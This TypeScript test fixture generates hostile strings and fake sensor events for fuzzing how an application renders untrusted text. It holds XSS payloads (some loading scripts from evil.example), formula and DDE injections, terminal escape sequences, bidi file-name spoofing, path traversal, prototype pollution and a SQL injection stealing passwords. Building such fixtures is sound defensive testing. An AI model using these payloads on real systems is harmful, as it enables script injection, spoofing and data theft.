/**
 * Two hundred payloads and more that want to be something else than text: in a page, in a spreadsheet, in a terminal, in a
 * chat, or to a reader's eye. Each is short, so that lists show it whole.
 */

const elements = [
  'img src=x',
  'svg',
  'body',
  'video src=x',
  'audio src=x',
  'details open',
  'marquee',
  'input autofocus',
  'select autofocus',
  'textarea autofocus',
  'iframe',
  'object data=x',
  'form',
  'button autofocus',
  'a href=x',
  'math',
  'style',
  'link rel=stylesheet href=x',
  'meter',
  'keygen autofocus',
];
const handlers = ['onerror', 'onload', 'onfocus', 'onmouseover', 'ontoggle'];
const withHandlers = elements.flatMap((element, n) =>
  [handlers[n % 5], handlers[(n + 2) % 5]].map((handler) => `<${element} ${handler}=alert(1)>`),
);

const html = [
  '<script>alert(1)</script>',
  '<ScRiPt>alert(1)</sCrIpT>',
  '<script src=//evil.example/x.js></script>',
  '<script type=module>alert(1)</script>',
  '</script><script>alert(1)</script>',
  '</textarea><script>alert(1)</script>',
  '</title><script>alert(1)</script>',
  '<!--<script>alert(1)//-->',
  '<![CDATA[<script>alert(1)</script>]]>',
  '<iframe srcdoc="<script>alert(1)</script>">',
  '<iframe src="javascript:alert(1)">',
  '<base href="https://evil.example/">',
  '<meta http-equiv=refresh content="0;url=//evil.example">',
  '<style>*{display:none}</style>',
  '<style>@import "//evil.example/x.css"</style>',
  '<form action=//evil.example><input name=p>',
  '<a href="javascript:alert(1)">click</a>',
  '<a href="data:text/html,<script>alert(1)</script>">',
  '<svg><animate onbegin=alert(1) attributeName=x>',
  '<svg><use href="data:image/svg+xml,x#x"/></svg>',
  '<math><mtext><script>alert(1)</script>',
  '<template><script>alert(1)</script></template>',
  '<noscript><p title="</noscript><script>alert(1)">',
  '<plaintext>',
  '<xmp><script>alert(1)</script></xmp>',
  '<dialog open>Sign in again</dialog>',
  '&lt;script&gt;alert(1)&lt;/script&gt;',
  '&#60;script&#62;alert(1)&#60;/script&#62;',
  '" autofocus onfocus=alert(1) x="',
  "' autofocus onfocus=alert(1) x='",
  '"><svg/onload=alert(1)>',
  "'-alert(1)-'",
  "';alert(1)//",
  '`${alert(1)}`',
  '${alert(1)}',
  '{{constructor.constructor("alert(1)")()}}',
  '<%= alert(1) %>',
  '#{7*7}',
  '[[${7*7}]]',
  '{"__proto__":{"isAdmin":true}}',
  '__proto__',
  'constructor',
  'javascript:alert(1)',
  'JaVaScRiPt:alert(1)',
  'data:text/html;base64,PHNjcmlwdD4=',
  'vbscript:msgbox(1)',
  '//evil.example/%2e%2e/x',
  '\\\\evil.example\\share\\x',
  'blob:https://evil.example/1',
  'position:fixed;inset:0;background:red',
];

const formulas = [
  '=1+1',
  '=HYPERLINK("https://evil.example","x")',
  "=cmd|' /C calc'!A0",
  '=IMPORTXML("https://evil.example","//a")',
  '=WEBSERVICE("https://evil.example")',
  '+1+1',
  "+cmd|' /C calc'!A0",
  '-1+1',
  '-2+3+cmd|" /C calc"!A0',
  '@SUM(1+1)',
  '\t=1+1',
  '\r=1+1',
  '\n=1+1',
  ' =1+1',
  '"=1+1',
  '";=1+1',
  ',=1+1',
  '\uFF1D1+1',
  '\uFF0B1+1',
  '\uFF201+1',
];

const chat = [
  '<!channel> fire',
  '<!here|here>',
  '<@U0123456>',
  '@everyone',
  '@here',
  '*bold* _it_ ~gone~',
  '[sign in](https://evil.example)',
  '![x](https://evil.example/x.png)',
  '<https://evil.example|sign in>',
  '```\nblock\n```',
  '> quoted',
  '# heading',
  '| a | b |',
  '<b>bold</b><br>line',
  'tel:+1900555',
  'http://evil.example/reset-password',
];

const terminal = [
  '\u001B[31mred\u001B[0m',
  '\u001B[2J\u001B[H',
  '\u001B]0;title\u0007',
  '\u001B]8;;https://evil.example\u0007link\u001B]8;;\u0007',
  '\u001B]52;c;ZXZpbA==\u0007',
  '\u009B31mred',
  'back\b\b\b\bspace',
  'over\rwritten',
];

const around = (points: readonly number[], before: string, after: string): string[] =>
  points.map((point) => `${before}${String.fromCodePoint(point)}${after}`);

/** Written the other way round, so that one file is named here and another is seen. */
const bidi = around(
  [0x202a, 0x202b, 0x202c, 0x202d, 0x202e, 0x2066, 0x2067, 0x2068, 0x2069, 0x200e, 0x200f, 0x061c],
  'invoice',
  'gpj.exe',
);
const invisible = around(
  [
    0x00ad, 0x034f, 0x115f, 0x1160, 0x17b4, 0x180e, 0x200b, 0x200c, 0x200d, 0x2028, 0x2029, 0x2060, 0x2061,
    0x2064, 0x206a, 0x2800, 0x3164, 0xfe00, 0xfe0f, 0xfeff, 0xffa0, 0xfff9, 0xe0001, 0xe0041, 0xe007f,
    0xe0100, 0x1d173,
  ],
  'ad',
  'min',
);
const spaces = around([0x00a0, 0x1680, 0x2000, 0x2003, 0x2007, 0x2009, 0x202f, 0x205f, 0x3000], 'ro', 'ot');
const controls = around(
  [...Array.from({ length: 32 }, (_, code) => code), 0x7f, 0x80, 0x85, 0x90, 0x9d, 0x9f],
  'a',
  'b',
);
const odd = [
  'Z̸̢͔̹͈̖̫̦̾a̷̛̝͒l̸̼̎g̶̱̈́o̸̙͝',
  'раураl.example',
  'ｆｕｌｌ',
  '👩‍👩‍👧‍👦',
  '🏴󠁧󠁢󠁥󠁮󠁧󠁿',
  'ا'.repeat(20),
  'é',
  '%00%0a%0d',
  '../../../../etc/passwd',
  'NULL',
  'undefined',
  '[object Object]',
];

export const hostileTexts: readonly string[] = [
  ...new Set([
    ...html,
    ...withHandlers,
    ...formulas,
    ...chat,
    ...terminal,
    ...bidi,
    ...invisible,
    ...spaces,
    ...controls,
    ...odd,
  ]),
];

/** What no page may have in its text: whoever reads it must see that it is there. */
export const hidden =
  /\p{Cc}|\u00AD|\u034F|\u061C|[\u115F\u1160]|[\u17B4]|\u180E|\u200B|\u200E|\u200F|[\u2028-\u202E]|[\u2060-\u206F]|\u2800|\u3164|\uFEFF|\uFFA0|\uFFF9|[\u{E0000}-\u{E007F}]|\u{1D173}/u;

/** Every field that a sensor or an agent can fill, filled with it. */
export const hostileEventsOf = (texts: readonly string[], nowMs: number): object[] =>
  texts.flatMap((text, n) => {
    const timestamp = new Date(nowMs - n * 2000).toISOString();
    return [
      {
        event_id: `text-${n}`,
        timestamp,
        service: text,
        source_ip: `198.51.100.${(n % 250) + 1}`,
        activity: text,
        payload: `GET /?q=${text}' UNION SELECT password FROM users--`,
        extra: {
          session: `s${text}`,
          username: text,
          password: text,
          user_agent: text,
          url: text,
          command: text,
          // A key of that very name is refused.
          [text === '__proto__' ? 'proto' : text]: text,
        },
      },
      {
        event_id: `host-${n}`,
        timestamp,
        hostname: `h${text}`,
        username: text,
        file_accessed: text,
        file_path: text,
        action: 'COPIED',
        severity: 'CRITICAL',
        alert_type: 'decoy_access',
        process_name: text,
      },
    ];
  });
